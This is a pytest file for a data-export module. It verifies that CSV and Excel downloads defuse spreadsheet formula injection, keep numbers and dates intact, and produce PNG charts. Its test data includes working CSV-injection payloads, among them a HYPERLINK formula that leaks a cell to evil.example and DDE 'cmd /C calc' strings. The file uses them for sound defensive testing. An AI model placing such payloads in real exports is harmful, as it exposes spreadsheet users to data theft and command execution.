"""Downloads (lib.exports): formula-like cells neutralised in CSV and Excel, numbers untouched, charts as PNG."""

from __future__ import annotations

import csv
import datetime
import io

import altair as alt
import openpyxl
import pandas as pd
import pytest

from lib import exports
from lib.domains.action_points import charts as ap_charts

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SAFE_TEXT = ["plain text", "a = b", "Côte d'Ivoire", "e-mail", "2+2", "x@y.org"]


@pytest.fixture
def hostile() -> pd.DataFrame:
    n = len(HOSTILE)
    return pd.DataFrame(
        {
            "comment": HOSTILE,
            "safe": SAFE_TEXT[:n],
            "count": [-5, 0, 3, -1, 7, 2][:n],
            "share": [-0.25, 1.5, 0.0, -3.75, 2.0, 0.5][:n],
            "when": pd.to_datetime(["2008-11-17"] * n),
        }
    )


def _csv_rows(data: bytes) -> list[dict[str, str]]:
    text = data.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_neutralises_formula_cells(hostile):
    rows = _csv_rows(exports.to_csv_bytes(hostile))
    assert len(rows) == len(HOSTILE)
    for row, value, safe in zip(rows, HOSTILE, SAFE_TEXT, strict=False):
        assert row["comment"] == "'" + value, row["comment"]
        assert not row["comment"].startswith(exports.FORMULA_PREFIXES)
        assert row["safe"] == safe  # ordinary text is left alone


def test_csv_leaves_numbers_alone(hostile):
    rows = _csv_rows(exports.to_csv_bytes(hostile))
    assert [int(r["count"]) for r in rows] == list(hostile["count"])
    assert [float(r["share"]) for r in rows] == list(hostile["share"])
    assert rows[0]["when"].startswith("2008-11-17")


def test_csv_has_a_bom_so_excel_reads_accents(hostile):
    data = exports.to_csv_bytes(hostile)
    assert data.startswith(b"\xef\xbb\xbf")
    assert "Côte d'Ivoire" in data.decode("utf-8-sig")


def test_excel_neutralises_formula_cells_and_keeps_numbers(hostile):
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_excel_bytes(hostile)))
    ws = wb.active
    header = [c.value for c in ws[1]]
    assert header == ["comment", "safe", "count", "share", "when"]
    body = list(ws.iter_rows(min_row=2))
    assert len(body) == len(HOSTILE)
    for row, value in zip(body, HOSTILE, strict=True):
        comment, safe, count, share, when = row
        # A string cell (type "s"), never a formula (type "f"), starting with the quote.
        assert comment.data_type == "s"
        assert comment.value.startswith("'")
        # Excel stores line breaks as \n: compare what follows the quote, \r normalised.
        assert comment.value[1:].replace("\n", "\r") == value.replace("\n", "\r")
        assert safe.data_type == "s" and not safe.value.startswith("'")
        assert count.data_type == "n" and share.data_type == "n"
    assert [r[2].value for r in body] == list(hostile["count"])
    assert [r[3].value for r in body] == list(hostile["share"])
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), "no formula anywhere"


def test_the_hostile_examples_of_the_issue():
    df = pd.DataFrame({"v": ['=HYPERLINK("http://x","y")', "+cmd", "@SUM(A1:A9)"], "n": [-1, 2, 3]})
    rows = _csv_rows(exports.to_csv_bytes(df))
    assert [r["v"] for r in rows] == ['\'=HYPERLINK("http://x","y")', "'+cmd", "'@SUM(A1:A9)"]
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_excel_bytes(df))).active
    assert [c.value for c in ws["A"]][1:] == ['\'=HYPERLINK("http://x","y")', "'+cmd", "'@SUM(A1:A9)"]
    assert [c.value for c in ws["B"]][1:] == [-1, 2, 3]


def test_string_dtype_categorical_and_column_names_are_neutralised():
    df = pd.DataFrame(
        {
            "=name": pd.Series(["=1+1", "ok"], dtype="string"),
            "cat": pd.Categorical(["@x", "y"]),
        }
    )
    out = exports.neutralise(df)
    assert list(out.columns) == ["'=name", "cat"]
    assert list(out["'=name"]) == ["'=1+1", "ok"]
    assert list(out["cat"]) == ["'@x", "y"]
    assert list(df["=name"]) == ["=1+1", "ok"], "the caller's frame is not changed"


def test_excel_drops_control_characters_it_cannot_store():
    df = pd.DataFrame({"v": ["bell\x07", "ok"]})
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_excel_bytes(df))).active
    assert [c.value for c in ws["A"]][1:] == ["bell", "ok"]


def test_excel_accepts_timezone_aware_datetimes():
    df = pd.DataFrame({"at": pd.to_datetime(["2008-11-17 10:00"]).tz_localize("UTC")})
    ws = openpyxl.load_workbook(io.BytesIO(exports.to_excel_bytes(df))).active
    assert ws["A2"].value.year == 2008


def test_chart_png_returns_png_bytes():
    df = pd.DataFrame(
        {
            "cluster": ["A", "A", "B", "B"],
            "cluster_title": ["Country engagement"] * 2 + ["Leadership"] * 2,
            "status": ["limited", "completed"] * 2,
            "status_rank": [1, 3] * 2,
            "count": [1, 3, 2, 2],
            "total": [4, 4, 4, 4],
            "share": [0.25, 0.75, 0.5, 0.5],
        }
    )
    png = exports.chart_png(ap_charts.cluster_status_bars(df))
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    width, height = int.from_bytes(png[16:20], "big"), int.from_bytes(png[20:24], "big")
    assert width > 200 and height > 50
    # A plain Altair chart (and a spec dict) work too.
    small = alt.Chart(pd.DataFrame({"x": [1, 2]})).mark_point().encode(x="x:Q")
    assert exports.chart_png(small).startswith(b"\x89PNG")
    assert exports.chart_png(small.to_dict(), scale=1).startswith(b"\x89PNG")


def test_pages_offer_csv_excel_and_png_downloads(make_app):
    at = make_app("pages/action_points.py", role="hc_office")
    at.run()
    assert not at.exception, at.exception  # duplicate widget keys would raise here
    buttons = at.get("download_button")
    labels = [b.proto.label for b in buttons]
    charts_shown = len(at.get("vega_lite_chart")) + len(at.get("arrow_vega_lite_chart"))
    assert charts_shown >= 2
    assert labels.count("Download chart (PNG)") == charts_shown, "every chart has a PNG download"
    assert labels.count("Download CSV") == labels.count("Download Excel") >= charts_shown + 1
    ids = [b.proto.id for b in buttons]
    assert len(ids) == len(set(ids))


def test_excel_is_made_for_reading():
    """Issue 16: typed dates without a time of day, widths that fit, the header frozen, a named sheet."""
    df = pd.DataFrame(
        {
            "Due date": pd.to_datetime(["2007-06-30", "2008-12-31"]),
            "Days overdue": [503, 0],
            "Action point text": ["x" * 200, "short"],
        }
    )
    wb = openpyxl.load_workbook(io.BytesIO(exports.to_excel_bytes(df, "Overdue action points: 2008-H2")))
    ws = wb.active
    assert ws.title == "Overdue action points 2008-H2"
    assert ws.freeze_panes == "A2"
    assert isinstance(ws["A2"].value, datetime.datetime) and ws["A2"].number_format == "yyyy-mm-dd"
    assert ws["B2"].value == 503
    widths = [ws.column_dimensions[c].width for c in "ABC"]
    assert widths[0] >= len("yyyy-mm-dd") and widths[1] >= len("Days overdue")
    assert widths[2] == exports.EXCEL_MAX_WIDTH and ws["C2"].alignment.wrap_text
